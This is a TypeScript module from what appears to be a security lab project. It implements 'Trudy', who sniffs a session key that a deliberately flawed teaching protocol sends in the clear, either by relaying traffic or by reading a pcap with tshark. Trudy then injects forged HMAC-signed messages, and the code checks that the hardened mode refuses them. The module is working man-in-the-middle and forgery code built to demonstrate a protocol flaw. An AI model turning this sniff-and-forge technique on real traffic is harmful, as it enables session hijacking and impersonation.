/**
 * session-key-sniff: the seeds' student sends the decrypted session key back to Blackboard in the
 * clear (STEP 5), so anyone on the path holds it and can forge message | HMAC(session key,
 * message) that Blackboard accepts.
 *
 * Two ways to run it:
 * - on the path (a relay): Trudy reads the key as it passes, then injects a forged message into the
 *   same connection before the student says anything. The seeds' Blackboard acknowledges nothing,
 *   so Trudy judges acceptance from what she can observe: no refusal, connection still open.
 * - passive (`sniffCapture`): from a capture file, read with tshark: the byte streams are put back
 *   together per direction, split into frames and decoded with the protocol tables.
 *
 * In the default mode no key crosses the wire (STEP 5 is a MAC over the exchange): the capture
 * holds no key, and a message forged under a guessed key is refused by Blackboard.
 */

import type { AttackServer, Verdict } from "./attack.ts";
import {
  type BlackboardAttackOptions,
  type BlackboardVerdict,
  keyFingerprint,
  seedAcceptance,
  startBlackboardAttack,
} from "./blackboard_path.ts";
import { blackboardProtocol, sessionProtocol } from "../blackboard/mod.ts";
import {
  aesGcmEncrypt,
  concatBytes,
  constantTimeEqual,
  fromHex,
  hmacSha256,
  importAesGcmKey,
  randomBytes,
  sequenceNonce,
  toBytes,
  toHex,
} from "../crypto/mod.ts";
import { splitFrames } from "../wire/mod.ts";
import { errorMessage, type StepLog } from "../runtime/mod.ts";
import { tshark } from "../wireshark/mod.ts";

/** What Trudy forges by default. */
export const FORGED_MESSAGE = "Trudy deserves full marks (signed: the student)";

export interface SessionKeySniffOptions extends BlackboardAttackOptions {
  /** The text of the forged message. */
  message?: string;
}

/** The forged seed message: message | HMAC(session key, message). */
export async function forgeSeedMessage(
  sessionKey: Uint8Array,
  message: string,
): Promise<Uint8Array> {
  const hmac = await hmacSha256(sessionKey, toBytes(message));
  return blackboardProtocol.encode("seedMessage", { message, hmac });
}

/** Starts Trudy's relay in front of Blackboard: sniff the key, forge a message with it. */
export function startSessionKeySniff(
  options: SessionKeySniffOptions,
): AttackServer<BlackboardVerdict> {
  const settleMs = options.settleMs ?? 1000;
  const message = options.message ?? FORGED_MESSAGE;
  return startBlackboardAttack(options, () => {
    let forged: "sniffed" | "guessed" | undefined;
    return {
      async onFrame(observer, direction, frame, msg, session) {
        if (direction !== "toClient" || !msg || forged) return frame;
        const { log } = observer;
        if (msg.type === "seedOk" && observer.sessionKey) {
          // The student waits for this before it sends: Trudy's message goes in first.
          const out = await forgeSeedMessage(observer.sessionKey, message);
          await session.inject("toServer", out);
          forged = "sniffed";
          observer.watch.arm();
          log.step(
            6,
            `injected a forged message '${message}' | HMAC ${
              toHex(out.subarray(out.length - 32))
            } made with the sniffed key`,
          );
        } else if (msg.type === "ready") {
          // Default mode: no key on the wire; Trudy can only guess one.
          const guess = randomBytes(32);
          const payload = sessionProtocol.encode("message", { text: message });
          const out = observer.encrypt
            ? blackboardProtocol.encode("sealed", {
              seq: 0,
              ciphertext: await aesGcmEncrypt(
                await importAesGcmKey(guess),
                sequenceNonce(0),
                payload,
                new Uint8Array(),
              ),
            })
            : blackboardProtocol.encode("record", {
              seq: 0,
              payload,
              mac: await hmacSha256(guess, payload),
            });
          await session.inject("toServer", out);
          forged = "guessed";
          observer.watch.arm();
          log.step(
            6,
            `no session key crossed the wire: injected record 0 with '${message}' under a guessed key`,
          );
        }
        return frame;
      },
      verdict(observer, outcome) {
        if (forged === undefined) {
          return {
            succeeded: false,
            reason: observer.mode === "default" ? "no-key-ended-early" : "ended-before-key",
            detail: observer.mode === "default"
              ? "no session key crossed the wire and the session ended before Trudy could inject"
              : "the session ended before Trudy saw a session key and could inject",
          };
        }
        if (outcome.kind === "refused") {
          return {
            succeeded: false,
            reason: forged === "guessed" ? "mac-refused" : "sniffed-key-forgery-refused",
            detail: forged === "guessed"
              ? `no session key crossed the wire (STEP 4 carried X25519 shares, STEP 5 only a signature and a key confirmation MAC); Blackboard refused Trudy's message forged under a guessed key: ${outcome.reason}`
              : `Blackboard refused the message forged with the sniffed key: ${outcome.reason}`,
          };
        }
        return {
          succeeded: true,
          reason: forged === "sniffed"
            ? "sniffed-key-forgery-accepted"
            : "guessed-key-forgery-accepted",
          detail: forged === "sniffed"
            ? `Trudy read the session key that the student sent back in the clear at STEP 5 and injected a forged message | HMAC under it; Blackboard accepted it: ${
              seedAcceptance(outcome, settleMs)
            }`
            : `Blackboard did not refuse a message forged under a guessed key (${outcome.kind})`,
        };
      },
    };
  });
}

// ---------------------------------------------------------------- passive: a capture file

export interface SniffCaptureOptions {
  /** The capture file (pcap or pcapng). */
  pcap: string;
  /**
   * Blackboard's TCP port in the capture. Default: any port; Blackboard's side of each connection
   * is the one that receives the step-3 request.
   */
  port?: number;
  log: StepLog;
  /** The text of the forged message. */
  message?: string;
}

export interface SniffCaptureVerdict extends Verdict {
  sessionKey?: Uint8Array;
  /** The forged message | HMAC, encoded as a frame's payload. */
  forged?: Uint8Array;
  /** Captured seed messages whose HMAC verifies under the sniffed key, of all seen. */
  verified?: { valid: number; total: number };
}

interface Segment {
  seq: number;
  payload: Uint8Array;
}

/** One TCP connection's two byte streams, by the port that sent them. */
interface TcpStream {
  id: string;
  bySource: Map<number, { dst: number; segments: Segment[] }>;
}

/** Runs tshark on the capture: one line per TCP segment with payload (on `port`, if given). */
async function readSegments(
  pcap: string,
  port: number | undefined,
): Promise<Map<string, TcpStream>> {
  let out: string;
  try {
    out = await tshark([
      "-r",
      pcap,
      "-Y",
      port === undefined ? "tcp.len>0" : `tcp.port==${port} && tcp.len>0`,
      "-T",
      "fields",
      "-e",
      "tcp.stream",
      "-e",
      "tcp.srcport",
      "-e",
      "tcp.dstport",
      "-e",
      "tcp.seq",
      "-e",
      "tcp.payload",
    ]);
  } catch (err) {
    throw new Error(`Cannot read ${pcap}: ${errorMessage(err)}`);
  }
  const streams = new Map<string, TcpStream>();
  for (const line of out.split("\n")) {
    const [id, src, dst, seq, hex] = line.trim().split("\t");
    if (!id || !src || !dst || !seq || !hex) continue;
    let s = streams.get(id);
    if (!s) streams.set(id, s = { id, bySource: new Map() });
    let side = s.bySource.get(Number(src));
    if (!side) s.bySource.set(Number(src), side = { dst: Number(dst), segments: [] });
    side.segments.push({ seq: Number(seq), payload: fromHex(hex.replace(/:/g, "")) });
  }
  return streams;
}

/** Puts one direction's bytes back in order; retransmitted or overlapping bytes count once. */
function reassemble(segments: Segment[]): Uint8Array {
  const sorted = [...segments].sort((a, b) => a.seq - b.seq);
  const parts: Uint8Array[] = [];
  let end = sorted[0]?.seq ?? 0;
  for (const s of sorted) {
    const skip = end - s.seq;
    if (s.seq > end) break; // a gap: the capture missed bytes; stop at what is contiguous
    if (skip >= s.payload.length) continue;
    const fresh = s.payload.subarray(Math.max(0, skip));
    parts.push(fresh);
    end += fresh.length;
  }
  return concatBytes(...parts);
}

type Decoded = ReturnType<typeof blackboardProtocol.decode>;

function decodeAll(frames: Uint8Array[]): Decoded[] {
  const out: Decoded[] = [];
  for (const f of frames) {
    try {
      out.push(blackboardProtocol.decode(f));
    } catch {
      // Not a Blackboard message (or a chunk cut by the capture): skipped.
    }
  }
  return out;
}

/**
 * Trudy reads a capture of Blackboard's port: finds the session key the seeds' student sent back
 * in the clear, checks the captured messages' HMACs under it, and forges a message | HMAC.
 */
export async function sniffCapture(options: SniffCaptureOptions): Promise<SniffCaptureVerdict> {
  const { log } = options;
  const message = options.message ?? FORGED_MESSAGE;
  const all = await readSegments(options.pcap, options.port);
  // Blackboard's connections: one side sends a step-3 request (that side is the student).
  const streams: Array<{ id: string; port: number; up: Decoded[]; down: Decoded[] }> = [];
  for (const s of all.values()) {
    for (const side of s.bySource.values()) {
      if (options.port !== undefined && side.dst !== options.port) continue;
      const up = decodeAll(splitFrames(reassemble(side.segments)));
      if (up[0]?.type !== "seedRequest" && up[0]?.type !== "request") continue;
      const back = s.bySource.get(side.dst)?.segments ?? [];
      streams.push({
        id: s.id,
        port: side.dst,
        up,
        down: decodeAll(splitFrames(reassemble(back))),
      });
    }
  }
  const ports = [...new Set(streams.map((s) => s.port))].join(", ");
  const where = options.port !== undefined
    ? `port ${options.port}`
    : streams.length > 0
    ? `Blackboard (port ${ports})`
    : "Blackboard";
  log.info(
    `read ${options.pcap} with tshark: ${streams.length} TCP connection${
      streams.length === 1 ? "" : "s"
    } to ${where}`,
  );
  const kinds = new Set<string>();
  for (const s of streams) {
    const { up, down } = s;
    for (const m of [...up, ...down]) kinds.add(m.type);
    const request = up.find((m) => m.type === "seedRequest" || m.type === "request");
    const sid = request && "request" in request
      ? /SID:(\d+)/.exec(request.request)?.[1]
      : undefined;
    log.step(
      3,
      `stream ${s.id}: ${up.length} frames from ${
        sid ? `student ${sid}` : "a client"
      }, ${down.length} from Blackboard (${[...new Set(up.map((m) => m.type))].join(", ")})`,
    );
    const echo = up.find((m) => m.type === "seedKeyEcho");
    if (!echo || echo.type !== "seedKeyEcho") continue;
    const key = echo.sessionKey;
    log.step(
      5,
      `stream ${s.id}: the student sent the session key back IN THE CLEAR: ${
        toHex(key)
      } (SHA-256 ${await keyFingerprint(
        key,
      )}…)`,
    );
    let valid = 0;
    let total = 0;
    for (const m of up) {
      if (m.type !== "seedMessage") continue;
      total++;
      const ok = constantTimeEqual(await hmacSha256(key, toBytes(m.message)), m.hmac);
      if (ok) valid++;
      log.step(
        6,
        `stream ${s.id}: captured message '${m.message}': HMAC ${
          ok ? "verifies" : "does NOT verify"
        } under the sniffed key`,
      );
    }
    const forged = await forgeSeedMessage(key, message);
    const hmac = forged.subarray(forged.length - 32);
    log.step(6, `forged: '${message}' | HMAC ${toHex(hmac)}`);
    return {
      succeeded: true,
      reason: "key-in-capture",
      detail: `Trudy read the session key of ${
        sid ? `student ${sid}` : "a student"
      } from STEP 5 of TCP stream ${s.id} (sent back in the clear); ${valid} of ${total} captured message${
        total === 1 ? "" : "s"
      } ${valid === 1 ? "verifies" : "verify"} under it, and she forged '${message}' | HMAC ${
        toHex(hmac)
      } that Blackboard accepts`,
      sessionKey: key,
      forged,
      verified: { valid, total },
    };
  }
  return {
    succeeded: false,
    reason: streams.length === 0 ? "no-session-in-capture" : "no-key-in-capture",
    detail: streams.length === 0
      ? `the capture holds no Blackboard session${
        options.port !== undefined ? ` on port ${options.port}` : ""
      }`
      : `no session key in the capture: ${streams.length} connection${
        streams.length === 1 ? "" : "s"
      } to ${where} carry ${
        [...kinds].join(", ") || "no Blackboard message"
      } (the default mode sends only a key confirmation MAC at STEP 5), so Trudy cannot forge a message | HMAC`,
  };
}
